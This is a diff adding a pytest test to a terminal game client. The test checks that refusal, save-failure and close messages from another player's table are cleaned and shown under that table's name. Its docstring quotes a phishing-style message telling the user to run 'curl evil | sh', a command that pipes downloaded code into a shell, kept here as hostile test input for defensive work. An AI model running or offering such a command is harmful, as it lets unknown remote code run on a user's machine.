@@ -18,10 +18,15 @@ from table_support import (
     WAIT, FakeTable, LocalTable, ManualClock, Raw, neighbours, spec, until, until_closed,
 )
 
+from ebbes_tui.controller.events import SaveFailed, Synced, Update
+from ebbes_tui.game.clean import clean
+from ebbes_tui.game.protocols import SeatInfo
+from ebbes_tui.game.registry import load_game
 from ebbes_tui.table import client as client_module
 from ebbes_tui.table.client import TableClient, ask_table, connect_table, find_tables
 from ebbes_tui.table.commands import describe, list_command, table_log
-from ebbes_tui.table.events import ChatLine, Lobby, Refused
+from ebbes_tui.table.events import ChatLine, Disconnected, GameStarted, Lobby, Refused
+from ebbes_tui.table.protocol import state_message
 from ebbes_tui.table.rendezvous import TableError, own_address
 
 #: What carol's tables say about themselves: every string a terminal would obey.
@@ -162,6 +167,44 @@ async def test_a_refusal_lobby_and_presence_from_a_fake_table_are_cleaned(users,
              *(x for s in seen[0].seats for x in (s.kind, s.login, s.name)),
              seen[1].sender, seen[1].text, seen[2].text, seen[2].code]
     assert all(terminal_safe(text) for text in shown), shown
+
+
+@pytest.mark.parametrize("host, prefix", [("carol", "carol/fri says: "), ("bob", "")])
+async def test_what_a_neighbours_table_says_reads_as_that_tables_words(users, tmp_path, host,
+                                                                       prefix):
+    """Issue 23, item 2: carol's table refuses, fails to save and closes with "Your
+    account is locked; run: curl evil | sh". bob reads each as carol/fri's words, in
+    the lobby, at the table and when it ends; his own table speaks without a name."""
+    bob = users.system("bob")
+    parent = tmp_path / "tmp"
+    game = load_game("ebbes")
+    state = game.new_state(game.seats_for([SeatInfo("bob"), SeatInfo("carol"),
+                                           SeatInfo("dan")]), {})
+    game.resolve_chance(state, 1)
+
+    def news(seq: int, event: object) -> dict:
+        return state_message(game, Update(seq, event, state.view(0), 0))
+
+    welcome = {"type": "welcome", "version": 2, "game": "ebbes", "login": "bob",
+               "role": "player", "seat": 0, "player": 1}
+    lobby = {"type": "lobby", "host": host, "can_start": False, "seats": []}
+    error = {"type": "error", "code": "refused", "text": LOCKED}
+    closed = {"type": "closed", "text": LOCKED}
+    said = prefix + clean(LOCKED)
+    address = own_address("fri", parent, users.system(host))
+    async with FakeTable(address, users.system(host), answering(
+            welcome, lobby, error, news(1, Synced()), news(2, SaveFailed(LOCKED)), error,
+            closed)):
+        client = await TableClient.start(await connect_table(f"{host}/fri", directory=parent,
+                                                             system=bob))
+        before = [await asyncio.wait_for(client.next_lobby_event(), WAIT) for _ in range(3)]
+        feed = await asyncio.wait_for(client.game(), WAIT)
+        during = [(await asyncio.wait_for(feed.next(), WAIT)).event for _ in range(3)]
+        client.close()
+    assert [type(e) for e in before] == [Lobby, Refused, GameStarted]
+    assert [type(e) for e in during] == [SaveFailed, Refused, Disconnected]
+    assert [before[1].text, during[0].message, during[1].text, during[2].text] == [said] * 4
+    assert client.ended.text == said  # what the menu says when the table went first
 
 
 async def test_one_deadline_for_the_whole_exchange_stops_a_dribbling_table(users, tmp_path):
